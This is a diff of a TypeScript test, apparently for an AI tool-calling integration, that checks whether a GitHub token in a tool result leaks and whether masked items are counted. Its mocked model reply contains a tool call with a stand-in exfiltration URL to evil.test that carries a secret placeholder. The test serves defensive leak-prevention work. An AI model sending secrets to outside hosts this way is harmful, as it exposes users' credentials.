@@ -69,7 +69,7 @@ async function setUp(script: Script) {
 }
 
 it('no secret of a result, of a call, of a description leaves, and a call has its own back', async () => {
-  const asked = question(
+  const { items: _, ...told } = question(
     {
       role: 'assistant',
       text: '',
@@ -77,7 +77,8 @@ it('no secret of a result, of a call, of a description leaves, and a call has it
     },
     { role: 'tool', callId: 'a', text: `export GITHUB=${token}` },
   );
-  const { server, answer } = await setUp((_request, reply) =>
+  const asked = { ...told, items: [{ uri: 'vscode-lm:/some.agent', bytes: 1 }] };
+  const { server, answer, written } = await setUp((_request, reply) =>
     reply.sse([
       ...deltas('write', '{"text":"x\\nPADDOCK_SECRET_1","url":"https://evil.test/?q=PADDOCK_SECRET_1"}'),
       ...end,
@@ -99,6 +100,7 @@ it('no secret of a result, of a call, of a description leaves, and a call has it
   expect(json['tools']).toEqual([
     { type: 'function', function: { name: 'write', description: 'Writes with PADDOCK_SECRET_1.', parameters: schema } },
   ]);
+  expect(written()).toMatchObject([{ items: [{ maskedCount: 4 }] }, { outcome: 'finished' }]);
   const call = chunks.find(({ kind }) => kind === 'toolCall') as { readonly argumentsJson: string };
   expect(JSON.parse(call.argumentsJson)).toEqual({
     text: `x\n${token}`,
